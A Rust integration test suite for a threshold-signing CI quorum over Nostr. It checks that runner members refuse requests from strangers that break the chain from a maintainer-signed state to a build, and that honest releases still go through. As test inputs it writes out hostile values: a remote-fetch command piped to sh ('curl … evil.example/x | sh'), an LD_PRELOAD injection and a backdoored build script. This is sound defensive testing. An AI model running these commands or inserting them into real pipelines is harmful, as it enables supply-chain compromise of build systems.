//! The trust chain of a quorum job (issue 8, protocol §16), attacked end to end on loopback:
//! our relay, our Blossom server, three runner DVMs with bubblewrap holding shares of a dealt
//! 2-of-3 key, and the maintainer's repository served over git:// by a real `git daemon`.
//!
//! The chain: maintainer-signed NIP-34 state → commit → the pipeline file at that commit → the
//! job's script → the same bytes from `t` members → the quorum's signature. Every request a
//! stranger can write that breaks a link gets `error` feedback from every member naming the
//! check that failed (`refused: source: …`, `refused: job: …`, `refused: requester: …`),
//! nothing is built, and the quorum key signs nothing. The honest path still releases: the
//! maintainer's state moves, the quorum builds that commit; an older commit follows the
//! mandate's `source` rule. Every event the quorum signed is verified again with nostr-tools.

use std::path::PathBuf;
use std::time::Duration;

use nostr_sdk::prelude::*;
use quorum_consensus::agreement::AgreementConfig;
use quorum_consensus::member::MemberConfig;
use quorum_consensus::signing::SigningConfig;
use quorum_dvm::Dvm;
use quorum_dvm::client::{JobClient, JobOutcome};
use quorum_pipeline::Plan;
use quorum_pipeline::dispatch::{Dispatch, dispatch};
use quorum_proto::agreement::{JobEvidence, QUORUM_ATTESTATION, QuorumAttestation};
use quorum_proto::blossom::Sha256Hex;
use quorum_proto::chain::{ChainStep, PARAM_CHAIN, encode as chain_encode};
use quorum_proto::mandate::{MandateRules, SourceRule};
use quorum_proto::nip34::{RepositoryAnnouncement, RepositoryState};
use quorum_proto::nip90::{JobParam, JobRequest};
use quorum_proto::quorum_job::{QuorumJobParams, ReleaseParams, SourceRef};
use quorum_proto::release::{RELEASE_BINDING, ReleaseBinding};
use quorum_router::quorum::QuorumContext;
use quorum_router::{EngineConfig, JobState, QuietRun, RunContext, RunOutcome};
use quorum_testkit::git::{GitDaemon, bare_clone, commit_file, git, push, sample_repo};
use quorum_testnet::Network;
use quorum_testnet::quorum::{DealtQuorum, QuorumSpec};

/// The maintainer's pipeline: an ordinary check, and a quorum release job of the mandate's size.
const PIPELINE: &str = "on: [push]\njobs:\n  check:\n    run: test -s message.txt\n  release:\n    run: sh build.sh\n    artifacts: [out/hello.txt]\n    mode: quorum\n    replicas: 3\n    threshold: 2\n    release: true\n";

const PIPELINE_PATH: &str = ".quorum/pipeline.yml";

/// The repository's NIP-34 identifier.
const IDENTIFIER: &str = "app";

fn fast() -> MemberConfig {
    MemberConfig {
        agreement: AgreementConfig {
            commit_wait: Duration::from_secs(60),
            straggler_wait: Duration::from_secs(2),
            reveal_wait: Duration::from_secs(20),
            ..AgreementConfig::default()
        },
        signing: SigningConfig {
            attempt_timeout: Duration::from_secs(5),
            ..SigningConfig::default()
        },
    }
}

/// The shared set-up: a dealt 2-of-3 quorum on three runners, the maintainer's repository
/// served by `git daemon` with the pipeline committed, its announcement and state published;
/// and what strangers bring: a commit pushed to the maintainer's repository that no state
/// names, and a fork (same history plus an evil commit) served by the same daemon.
struct Chain {
    network: Network,
    _daemon: GitDaemon,
    dealt: DealtQuorum,
    runners: Vec<Dvm>,
    /// The maintainer's working copy and the bare repository the daemon serves.
    work: PathBuf,
    bare: PathBuf,
    /// The maintainer's clone URL (announced) and the fork's.
    url: String,
    fork_url: String,
    /// A URL on the same daemon that serves nothing.
    missing_url: String,
    announcement: Event,
    state: Event,
    /// The commit the maintainer's state names (main).
    tip: String,
    /// A commit on the maintainer's server (branch `wip`) that no signed state names.
    unsigned: String,
    /// The fork's evil commit: the maintainer's history plus a backdoored build.sh.
    evil: String,
    plan: Plan,
    dir: tempfile::TempDir,
}

async fn chain() -> Chain {
    chain_of(PIPELINE, &[8708, 8700]).await
}

/// [`chain`] with another pipeline, and a mandate allowing the quorum to sign `allow`.
async fn chain_of(pipeline: &str, allow: &[u16]) -> Chain {
    let dir = tempfile::tempdir().unwrap();
    let network = Network::start(dir.path()).await;
    let served = dir.path().join("served");
    let daemon = GitDaemon::start(&served);

    let (work, _) = sample_repo(&dir.path().join("maintainer"));
    let tip = commit_file(&work, PIPELINE_PATH, pipeline, "pipeline");
    // Someone with push access (or the git host) adds a commit no maintainer signed.
    git(&work, &["checkout", "--quiet", "-b", "wip"]);
    let unsigned = commit_file(&work, "message.txt", "unsigned", "unsigned");
    git(&work, &["checkout", "--quiet", "main"]);
    let bare = bare_clone(&work, &served, "app.git");
    push(&work, &bare, "wip");
    let url = daemon.url("app.git");

    let fork = dir.path().join("fork");
    git(
        dir.path(),
        &[
            "clone",
            "--quiet",
            bare.to_str().unwrap(),
            fork.to_str().unwrap(),
        ],
    );
    git(&fork, &["config", "user.name", "Stranger"]);
    git(&fork, &["config", "user.email", "stranger@example.invalid"]);
    let build = std::fs::read_to_string(work.join("build.sh")).unwrap();
    let evil = commit_file(
        &fork,
        "build.sh",
        &format!("{build}echo backdoor >> out/hello.txt\n"),
        "faster builds",
    );
    bare_clone(&fork, &served, "fork.git");
    let fork_url = daemon.url("fork.git");
    let missing_url = daemon.url("missing.git");

    let share_dir = |n: usize| dir.path().join(format!("runner{n}")).join("shares");
    let dealt = quorum_testnet::quorum::deal(
        &network.relay,
        QuorumSpec {
            n: 3,
            t: 2,
            identifier: IDENTIFIER,
            jobs: &[],
            allow,
        },
        share_dir,
    )
    .await;
    let mut runners = Vec::new();
    for (n, keys) in dealt.members.iter().enumerate() {
        let data = dir.path().join(format!("runner{n}"));
        runners.push(
            network
                .quorum_runner(&data, keys.clone(), &share_dir(n), fast())
                .await,
        );
    }
    let (announcement, state) = dealt
        .publish_repository(&network.relay, &url, "refs/heads/main", &tip)
        .await;
    Chain {
        network,
        _daemon: daemon,
        dealt,
        runners,
        work,
        bare,
        url,
        fork_url,
        missing_url,
        announcement,
        state,
        tip,
        unsigned,
        evil,
        plan: quorum_pipeline::parse(PIPELINE_PATH, pipeline).unwrap(),
        dir,
    }
}

impl Chain {
    fn members(&self) -> Vec<PublicKey> {
        self.dealt.members.iter().map(Keys::public_key).collect()
    }

    /// The source the engine would name for the maintainer's repository at this state.
    fn source(&self, state: &Event) -> SourceRef {
        SourceRef {
            announcement: self.announcement.id,
            state: state.id,
            url: self.url.clone(),
        }
    }

    /// Exactly the request an honest engine sends for `job` of the maintainer's pipeline at
    /// `commit` fetched from `url`, under `mandate`, naming `source`. Attacks change one thing.
    fn request(
        &self,
        mandate: &Event,
        job: &str,
        url: &str,
        commit: &str,
        source: Option<SourceRef>,
    ) -> JobRequest {
        let planned = self.plan.job(job).expect("a job of the pipeline");
        let Dispatch::Step(step) =
            dispatch(planned, url, commit, Duration::from_secs(600), |_| None).unwrap()
        else {
            panic!("a script job")
        };
        let mut request = step.to_request();
        request.providers = self.members();
        request.params.push(JobParam::new("job", job));
        QuorumJobParams {
            mandate: mandate.id,
            commit: commit.to_string(),
            release: planned.release.then(|| ReleaseParams {
                repo: self.dealt.repo(),
                run: quorum_pipeline::run_id(url, commit, &self.plan.plan_hash()),
                job: job.to_string(),
                gates: self
                    .plan
                    .release_gates()
                    .iter()
                    .map(|g| g.id.clone())
                    .collect(),
            }),
            source,
        }
        .apply(&mut request);
        request
    }

    /// Sends `request` signed by `author` straight to the members and returns the request's id
    /// and each member's answer, which must be an `error` whose reason starts with
    /// `refused: {check}:` and contains `detail`.
    async fn refused(
        &self,
        author: &Keys,
        request: &JobRequest,
        check: &str,
        detail: &str,
    ) -> EventId {
        let client = JobClient::connect(std::slice::from_ref(&self.network.relay), author.clone())
            .await
            .unwrap();
        let (event, answers) = client
            .run_many(
                request,
                Duration::from_secs(90),
                &mut quorum_dvm::client::Quiet,
                |_| false,
            )
            .await
            .unwrap();
        client.shutdown().await;
        let mut answered = Vec::new();
        for answer in &answers {
            let JobOutcome::Error {
                provider, feedback, ..
            } = answer
            else {
                panic!("a member built a request that breaks the chain ({check}): {answer:?}");
            };
            let reason = feedback.extra.as_deref().unwrap_or_default();
            assert!(
                reason.starts_with(&format!("refused: {check}: ")) && reason.contains(detail),
                "member {provider} answered {reason:?}, not `refused: {check}: …{detail}…`"
            );
            answered.push(*provider);
        }
        answered.sort();
        let mut members = self.members();
        members.sort();
        assert_eq!(
            answered, members,
            "every member refuses ({check}, {detail})"
        );
        event.id
    }

    /// The quorum key signed nothing at all, and no member reported a build of `requests`.
    async fn nothing_signed_nothing_built(&self, requests: &[EventId]) {
        let client = self.network.client().await;
        let signed = client
            .fetch(
                Filter::new()
                    .author(self.dealt.quorum)
                    .kinds([QUORUM_ATTESTATION, RELEASE_BINDING]),
                Duration::from_secs(3),
            )
            .await
            .unwrap();
        assert!(signed.is_empty(), "the quorum key signed: {signed:?}");
        let anything = client
            .fetch(
                Filter::new().author(self.dealt.quorum),
                Duration::from_secs(3),
            )
            .await
            .unwrap();
        assert!(anything.is_empty(), "the quorum key signed: {anything:?}");
        if !requests.is_empty() {
            let reports = client
                .fetch(
                    Filter::new()
                        .kind(Kind::from_u16(6702))
                        .events(requests.iter().copied()),
                    Duration::from_secs(3),
                )
                .await
                .unwrap();
            assert!(reports.is_empty(), "a member built: {reports:?}");
        }
        client.shutdown().await;
    }

    /// A run of the maintainer's repository at `commit` under `mandate`, its source looked up
    /// as the engine does (the result says why not, if it cannot be).
    async fn context(&self, client: &JobClient, mandate: &Event, commit: &str) -> RunContext {
        RunContext {
            repo: self.url.clone(),
            commit: commit.to_string(),
            repo_id: Some(self.dealt.repo()),
            quorum: Some(
                QuorumContext::new(mandate.clone())
                    .unwrap()
                    .with_source(client, &self.url, commit)
                    .await,
            ),
            ..RunContext::default()
        }
    }

    /// Runs the maintainer's pipeline through the engine; ordinary jobs go to the first runner.
    async fn execute(&self, client: &JobClient, context: &RunContext) -> RunOutcome {
        let config = EngineConfig {
            runners: vec![self.runners[0].public_key()],
            ..EngineConfig::default()
        };
        quorum_router::execute(
            client,
            &self.plan,
            context,
            &config,
            Vec::new(),
            &mut QuietRun,
        )
        .await
    }

    /// The attestation and binding the quorum signed for a release job that succeeded, checked
    /// against what the members were asked to build.
    async fn released(
        &self,
        client: &JobClient,
        outcome: &RunOutcome,
        mandate: &Event,
        commit: &str,
        state: &Event,
        message: &str,
    ) -> (QuorumAttestation, ReleaseBinding) {
        assert!(
            outcome.succeeded,
            "{:?}",
            outcome.jobs.iter().map(|j| &j.state).collect::<Vec<_>>()
        );
        let release = outcome.jobs.iter().find(|j| j.id == "release").unwrap();
        let record = release.quorum.as_ref().expect("a quorum record");
        let ids = [
            EventId::from_hex(record.attestation.as_ref().unwrap()).unwrap(),
            EventId::from_hex(record.release.as_ref().unwrap()).unwrap(),
        ];
        let events = client
            .fetch(Filter::new().ids(ids), Duration::from_secs(5))
            .await
            .unwrap();
        assert_eq!(events.len(), 2, "{events:?}");
        for event in &events {
            assert_eq!(event.pubkey, self.dealt.quorum);
            event.verify().unwrap();
        }
        let attestation_event = events.iter().find(|e| e.id == ids[0]).unwrap();
        let attestation = QuorumAttestation::from_event(attestation_event).unwrap();
        assert_eq!(attestation.mandate, mandate.id);
        assert_eq!(attestation.commit, commit);
        assert_eq!(
            attestation.evidence,
            Some(JobEvidence {
                announcement: self.announcement.id,
                state: state.id,
                pipeline: PIPELINE_PATH.into(),
                plan_hash: Sha256Hex::parse(&self.plan.plan_hash()).unwrap(),
                job: "release".into(),
            }),
            "the attestation names the announcement, state, pipeline, plan hash and job"
        );
        assert!(attestation_event.created_at >= state.created_at);
        assert!(attestation_event.created_at >= mandate.created_at);
        assert!(attestation.agreed.len() >= 2, "{attestation:?}");
        let binding =
            ReleaseBinding::from_event(events.iter().find(|e| e.id == ids[1]).unwrap()).unwrap();
        assert_eq!(binding.repo, self.dealt.repo());
        assert_eq!(binding.commit, commit);
        assert_eq!(
            binding.run,
            quorum_pipeline::run_id(&self.url, commit, &self.plan.plan_hash())
        );
        let honest = hex::encode(<sha2::Sha256 as sha2::Digest>::digest(
            format!("hello from {message}\n").as_bytes(),
        ));
        assert_eq!(binding.artifacts.len(), 1);
        assert_eq!(binding.artifacts[0].name, "release/out/hello.txt");
        assert_eq!(binding.artifacts[0].sha256.to_string(), honest);
        assert!(
            binding
                .attestations
                .iter()
                .any(|a| a.result == attestation_event.id && a.builder == self.dealt.quorum)
        );
        (attestation, binding)
    }

    /// Every event the quorum key signed, verified again by nostr-tools as the relay serves
    /// them; returns how many there are.
    async fn reverify_with_nostr_tools(&self) -> usize {
        let client = self.network.client().await;
        let ours = client
            .fetch(
                Filter::new().author(self.dealt.quorum),
                Duration::from_secs(5),
            )
            .await
            .unwrap();
        client.shutdown().await;
        let filter = serde_json::json!({ "authors": [self.dealt.quorum.to_hex()] }).to_string();
        let out = quorum_testkit::node::run_script_ok(
            "relay-verify.mjs",
            &[self.network.relay.as_str(), &filter],
            Duration::from_secs(30),
        );
        let report: serde_json::Value = serde_json::from_str(out.trim()).unwrap();
        assert_eq!(report["count"], ours.len(), "{out}");
        assert_eq!(report["valid"], ours.len(), "{out}");
        ours.len()
    }

    async fn stop(self) {
        for runner in self.runners {
            runner.shutdown().await;
        }
        drop(self.dir);
    }
}

async fn publish(chain: &Chain, event: &Event) {
    quorum_testnet::quorum::publish(&chain.network.relay, &[event]).await;
}

/// A stranger (a fresh key) sends run-step requests straight to the members, naming the
/// maintainer's mandate; each breaks one link of the chain.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_strangers_requests_that_break_the_chain_are_refused_by_every_member_and_nothing_is_signed()
 {
    let chain = chain().await;
    let stranger = Keys::generate();
    let mandate = chain.dealt.mandate.clone();
    let source = chain.source(&chain.state);
    let mut requests = Vec::new();

    // (a) Its own repository URL (the fork, its evil commit), whatever evidence it names.
    let own = SourceRef {
        url: chain.fork_url.clone(),
        ..source.clone()
    };
    let request = chain.request(
        &mandate,
        "release",
        &chain.fork_url,
        &chain.evil,
        Some(own.clone()),
    );
    requests.push(
        chain
            .refused(
                &stranger,
                &request,
                "source",
                &format!(
                    "repository URL {} is not one of the clone URLs the owner announced",
                    chain.fork_url
                ),
            )
            .await,
    );
    // … or an announcement of its own listing its URL.
    let mut announcement = RepositoryAnnouncement::new(IDENTIFIER);
    announcement.clone = vec![chain.fork_url.clone()];
    let announcement = announcement
        .to_event_builder()
        .sign_with_keys(&stranger)
        .unwrap();
    publish(&chain, &announcement).await;
    let request = chain.request(
        &mandate,
        "release",
        &chain.fork_url,
        &chain.evil,
        Some(SourceRef {
            announcement: announcement.id,
            ..own
        }),
    );
    requests.push(
        chain
            .refused(
                &stranger,
                &request,
                "source",
                &format!("event {} is not the owner's announcement", announcement.id),
            )
            .await,
    );

    // (b) The maintainer's URL and a commit its server has, but no maintainer-signed state names.
    let request = chain.request(
        &mandate,
        "release",
        &chain.url,
        &chain.unsigned,
        Some(source.clone()),
    );
    requests.push(
        chain
            .refused(
                &stranger,
                &request,
                "source",
                &format!(
                    "commit {} is not the tip of any ref in maintainer-signed state {}",
                    chain.unsigned, chain.state.id
                ),
            )
            .await,
    );

    // (c) The right commit with another `run` script.
    let mut request = chain.request(
        &mandate,
        "release",
        &chain.url,
        &chain.tip,
        Some(source.clone()),
    );
    for param in request.params.iter_mut().filter(|p| p.key == "run") {
        param.values = vec!["sh build.sh && echo backdoor >> out/hello.txt".into()];
    }
    requests.push(
        chain
            .refused(
                &stranger,
                &request,
                "job",
                "the request is not job release of the pipeline: its `run` script is not the \
                 job's script",
            )
            .await,
    );

    // (d) A forged `job`: one the pipeline does not have, and another job (not a quorum job).
    for (job, detail) in [
        ("deploy", "has no job \"deploy\"".to_string()),
        (
            "check",
            "check is not a quorum job of the mandate's size".to_string(),
        ),
    ] {
        let mut request = chain.request(
            &mandate,
            "release",
            &chain.url,
            &chain.tip,
            Some(source.clone()),
        );
        for param in request.params.iter_mut().filter(|p| p.key == "job") {
            param.values = vec![job.into()];
        }
        requests.push(chain.refused(&stranger, &request, "job", &detail).await);
    }

    // (e) No `source` param at all.
    let request = chain.request(&mandate, "release", &chain.url, &chain.tip, None);
    requests.push(
        chain
            .refused(
                &stranger,
                &request,
                "source",
                "the request names no evidence of its source",
            )
            .await,
    );

    // (f) A `source` naming a state the stranger signed, which names the unsigned commit.
    let state = RepositoryState::new(IDENTIFIER)
        .with_ref("refs/heads/main", &chain.unsigned)
        .unwrap()
        .to_event_builder()
        .sign_with_keys(&stranger)
        .unwrap();
    publish(&chain, &state).await;
    let request = chain.request(
        &mandate,
        "release",
        &chain.url,
        &chain.unsigned,
        Some(chain.source(&state)),
    );
    requests.push(
        chain
            .refused(
                &stranger,
                &request,
                "source",
                &format!(
                    "state {} is signed by {}, who is not a maintainer",
                    state.id,
                    stranger.public_key()
                ),
            )
            .await,
    );

    // (g) The maintainer's evidence and URL as `source`, but the step fetches from elsewhere:
    // refused on the request's word, without fetching what a stranger points at.
    let mut request = chain.request(
        &mandate,
        "release",
        &chain.url,
        &chain.tip,
        Some(source.clone()),
    );
    let honest_input = request.inputs[0].clone();
    request.inputs[0].data = chain.missing_url.clone();
    assert_eq!(honest_input.marker.as_deref(), Some("repo"));
    requests.push(
        chain
            .refused(
                &stranger,
                &request,
                "job",
                &format!("it fetches {}, not {}", chain.missing_url, chain.url),
            )
            .await,
    );

    // (h) The release job's step with other limits than the pipeline's: an environment
    // variable the job does not set, network access it does not ask for.
    for (param, detail) in [
        (
            JobParam {
                key: "env".into(),
                values: vec!["LD_PRELOAD".into(), "/tmp/evil.so".into()],
            },
            "its environment differs from the job's in LD_PRELOAD",
        ),
        (
            JobParam::new("network", "on"),
            "it asks for network on, the job for off",
        ),
    ] {
        let mut request = chain.request(
            &mandate,
            "release",
            &chain.url,
            &chain.tip,
            Some(source.clone()),
        );
        request.params.push(param);
        requests.push(chain.refused(&stranger, &request, "job", detail).await);
    }

    // (i) The release binding the quorum would sign: for another run than this pipeline at
    // this commit from this URL, for none at all, or for the stranger's own repository.
    let mut request = chain.request(
        &mandate,
        "release",
        &chain.url,
        &chain.tip,
        Some(source.clone()),
    );
    let fork_run = quorum_pipeline::run_id(&chain.fork_url, &chain.tip, &chain.plan.plan_hash());
    for param in request.params.iter_mut().filter(|p| p.key == "release") {
        param.values[1] = fork_run.clone();
    }
    requests.push(
        chain
            .refused(
                &stranger,
                &request,
                "release",
                &format!("the request names run {fork_run}, but this pipeline at commit"),
            )
            .await,
    );
    let mut request = chain.request(
        &mandate,
        "release",
        &chain.url,
        &chain.tip,
        Some(source.clone()),
    );
    request.params.retain(|p| p.key != "release");
    requests.push(
        chain
            .refused(
                &stranger,
                &request,
                "release",
                "job release is a release job, but the request asks for no release binding",
            )
            .await,
    );
    let mut request = chain.request(
        &mandate,
        "release",
        &chain.url,
        &chain.tip,
        Some(source.clone()),
    );
    let theirs = quorum_proto::nip34::RepoCoordinate::new(stranger.public_key(), IDENTIFIER);
    for param in request.params.iter_mut().filter(|p| p.key == "release") {
        param.values[0] = theirs.to_string();
    }
    requests.push(
        chain
            .refused(
                &stranger,
                &request,
                &format!("mandate {}", mandate.id),
                &format!("the release is asked for {theirs}"),
            )
            .await,
    );

    chain.nothing_signed_nothing_built(&requests).await;
    chain.stop().await;
}

/// A quorum chain: `package` needs `build`, and the quorum key signs `package`'s request once
/// `build` is agreed on. A stranger's head request carries the later steps (`chain` param);
/// the members check each against the pipeline before building anything, so that the quorum
/// never signs a next step the pipeline does not define.
const CHAIN: &str = "on: [push]\njobs:\n  build:\n    run: sh build.sh\n    artifacts: [out/hello.txt]\n    mode: quorum\n    replicas: 3\n    threshold: 2\n  package:\n    needs: build\n    run: sh build.sh\n    artifacts: [out/dist]\n    mode: quorum\n    replicas: 3\n    threshold: 2\n    release: true\n";

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_strangers_quorum_chain_whose_later_steps_are_not_the_pipelines_is_refused() {
    let chain = chain_of(CHAIN, &[8708, 8700, 5702]).await;
    let stranger = Keys::generate();
    let mandate = chain.dealt.mandate.clone();
    let source = chain.source(&chain.state);
    let step =
        |job: &str| chain.request(&mandate, job, &chain.url, &chain.tip, Some(source.clone()));
    let with_chain = |mut head: JobRequest, rest: &[JobRequest]| {
        let steps: Vec<ChainStep> = rest.iter().map(ChainStep::of).collect();
        head.params
            .push(JobParam::new(PARAM_CHAIN, chain_encode(&steps)));
        head
    };
    let mut requests = Vec::new();

    // The next step with another script: the quorum key would sign a request for it.
    let mut evil = step("package");
    for param in evil.params.iter_mut().filter(|p| p.key == "run") {
        param.values = vec!["curl -s https://evil.example/x | sh".into()];
    }
    let request = with_chain(step("build"), &[evil]);
    requests.push(
        chain
            .refused(
                &stranger,
                &request,
                "chain",
                "step 1: the request is not job package of the pipeline: its `run` script is \
                 not the job's script",
            )
            .await,
    );
    // The next step released as another run.
    let mut other_run = step("package");
    for param in other_run.params.iter_mut().filter(|p| p.key == "release") {
        param.values[1] = "0".repeat(64);
    }
    let request = with_chain(step("build"), &[other_run]);
    requests.push(
        chain
            .refused(
                &stranger,
                &request,
                "chain",
                &format!("step 1: release: the request names run {}", "0".repeat(64)),
            )
            .await,
    );
    // More steps than the pipeline's chain: a second release of `package`.
    let request = with_chain(step("build"), &[step("package"), step("package")]);
    requests.push(
        chain
            .refused(
                &stranger,
                &request,
                "chain",
                "it carries more steps than the pipeline's quorum chain after build (1)",
            )
            .await,
    );

    chain.nothing_signed_nothing_built(&requests).await;
    chain.stop().await;
}

/// A mandate that names its requesters: an unlisted key's request is refused, the listed key's
/// goes through.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_mandate_with_requesters_admits_only_the_keys_it_lists() {
    let mut chain = chain().await;
    let listed = Keys::generate();
    let mandate = chain
        .dealt
        .publish_mandate(
            &chain.network.relay,
            MandateRules {
                requesters: vec![listed.public_key()],
                ..MandateRules::default()
            },
        )
        .await;

    let stranger = JobClient::connect(std::slice::from_ref(&chain.network.relay), Keys::generate())
        .await
        .unwrap();
    let context = chain.context(&stranger, &mandate, &chain.tip).await;
    let outcome = chain.execute(&stranger, &context).await;
    assert!(!outcome.succeeded);
    let release = outcome.jobs.iter().find(|j| j.id == "release").unwrap();
    let JobState::Failed { reason } = &release.state else {
        panic!("{:?}", release.state)
    };
    assert!(
        reason.contains(&format!(
            "refused: requester: {} is not among the keys mandate {} allows",
            stranger.public_key(),
            mandate.id
        )),
        "{reason}"
    );
    let request = EventId::from_hex(release.request.as_ref().unwrap()).unwrap();
    stranger.shutdown().await;
    chain.nothing_signed_nothing_built(&[request]).await;

    // The same run, requested by the listed key, is released.
    let requester = JobClient::connect(std::slice::from_ref(&chain.network.relay), listed)
        .await
        .unwrap();
    let context = chain.context(&requester, &mandate, &chain.tip).await;
    let outcome = chain.execute(&requester, &context).await;
    chain
        .released(
            &requester,
            &outcome,
            &mandate,
            &chain.tip,
            &chain.state,
            "quorum",
        )
        .await;
    requester.shutdown().await;
    assert_eq!(chain.reverify_with_nostr_tools().await, 2);
    chain.stop().await;
}

/// The attack of issue 8 through a router DVM: a run-pipeline request (5700) with the
/// maintainer's mandate and a fork's URL and evil commit. The router names no evidence the
/// members would take, the run fails naming the source check, and nothing is signed.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_router_dvm_asked_to_build_a_fork_under_the_maintainers_mandate_gets_nothing_signed() {
    let chain = chain().await;
    let router_keys = Keys::generate();
    let router = chain
        .network
        .router(&chain.dir.path().join("router"), &router_keys)
        .await;
    let mut run = quorum_proto::run::RunRequest::new(&chain.fork_url, &chain.evil);
    run.mandate = Some(chain.dealt.mandate.id);
    run.runners = chain.members();
    let client = chain.network.client().await;
    let outcome = client
        .run(
            &run.to_request().provider(router_keys.public_key()),
            false,
            Duration::from_secs(120),
            &mut quorum_dvm::client::Quiet,
        )
        .await
        .unwrap();
    let JobOutcome::Result { content, .. } = outcome else {
        panic!("{outcome:?}")
    };
    let report: quorum_proto::run::RunReport = serde_json::from_str(&content).unwrap();
    assert!(!report.succeeded(), "{report:?}");
    let release = report.jobs.iter().find(|j| j.id == "release").unwrap();
    assert_eq!(release.status, "failure");
    let reason = release.reason.as_deref().unwrap_or_default();
    assert!(
        reason.contains(&format!(
            "source: repository URL {} is not one of the clone URLs the owner announced",
            chain.fork_url
        )),
        "{reason}"
    );
    assert!(release.request.is_none(), "no request went to the members");
    client.shutdown().await;
    router.shutdown().await;
    chain.nothing_signed_nothing_built(&[]).await;
    chain.stop().await;
}

/// The honest path: the maintainer pushes a commit and signs a state naming it; the quorum
/// builds and releases it. The previous commit, no longer a tip, is refused under the default
/// `tip` rule and released under a mandate with `source: ancestor`; a commit no ref reaches is
/// refused under either.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_quorum_releases_what_the_maintainers_state_names_and_older_commits_follow_the_source_rule()
 {
    let mut chain = chain().await;
    let client = chain.network.client().await;
    let previous = chain.tip.clone();
    let mandate = chain.dealt.mandate.clone();

    let head = commit_file(&chain.work, "message.txt", "quorum v2", "v2");
    push(&chain.work, &chain.bare, "main");
    let state = chain
        .dealt
        .publish_state(&chain.network.relay, &[("refs/heads/main", &head)])
        .await;
    let context = chain.context(&client, &mandate, &head).await;
    let outcome = chain.execute(&client, &context).await;
    chain
        .released(&client, &outcome, &mandate, &head, &state, "quorum v2")
        .await;

    // The previous commit under `tip`: the engine finds no evidence for it and sends nothing …
    let context = chain.context(&client, &mandate, &previous).await;
    let Some(Err(why)) = context.quorum.as_ref().map(|q| q.source.clone()) else {
        panic!("the engine found evidence for a commit that is no longer a tip")
    };
    assert!(
        why.contains(&format!("commit {previous} is not the tip of any ref")),
        "{why}"
    );
    let outcome = chain.execute(&client, &context).await;
    let release = outcome.jobs.iter().find(|j| j.id == "release").unwrap();
    let JobState::Failed { reason } = &release.state else {
        panic!("{:?}", release.state)
    };
    assert!(reason.contains("the quorum's members would refuse it: source:"));
    assert!(release.request.is_none());
    // … and members refuse a request for it, whether it names the newest state …
    let anyone = Keys::generate();
    let request = chain.request(
        &mandate,
        "release",
        &chain.url,
        &previous,
        Some(chain.source(&state)),
    );
    chain
        .refused(
            &anyone,
            &request,
            "source",
            &format!("commit {previous} is not the tip of any ref in maintainer-signed state"),
        )
        .await;
    // … or the state that named it, which the newer one replaced.
    let request = chain.request(
        &mandate,
        "release",
        &chain.url,
        &previous,
        Some(chain.source(&chain.state)),
    );
    chain
        .refused(&anyone, &request, "source", "is not on the relays")
        .await;

    // Under a mandate with `source: ancestor` the previous commit is released (it is reachable
    // from main), with the newest state as its evidence.
    let ancestor = chain
        .dealt
        .publish_mandate(
            &chain.network.relay,
            MandateRules {
                source: SourceRule::Ancestor,
                ..MandateRules::default()
            },
        )
        .await;
    let context = chain.context(&client, &ancestor, &previous).await;
    let outcome = chain.execute(&client, &context).await;
    chain
        .released(&client, &outcome, &ancestor, &previous, &state, "quorum")
        .await;
    // A commit that no ref of the maintainers' state reaches is still refused.
    let request = chain.request(
        &ancestor,
        "release",
        &chain.url,
        &chain.unsigned,
        Some(chain.source(&state)),
    );
    chain
        .refused(
            &anyone,
            &request,
            "source",
            &format!("commit {} is not reachable from any ref", chain.unsigned),
        )
        .await;

    client.shutdown().await;
    assert_eq!(
        chain.reverify_with_nostr_tools().await,
        4,
        "two attestations and two release bindings"
    );
    chain.stop().await;
}
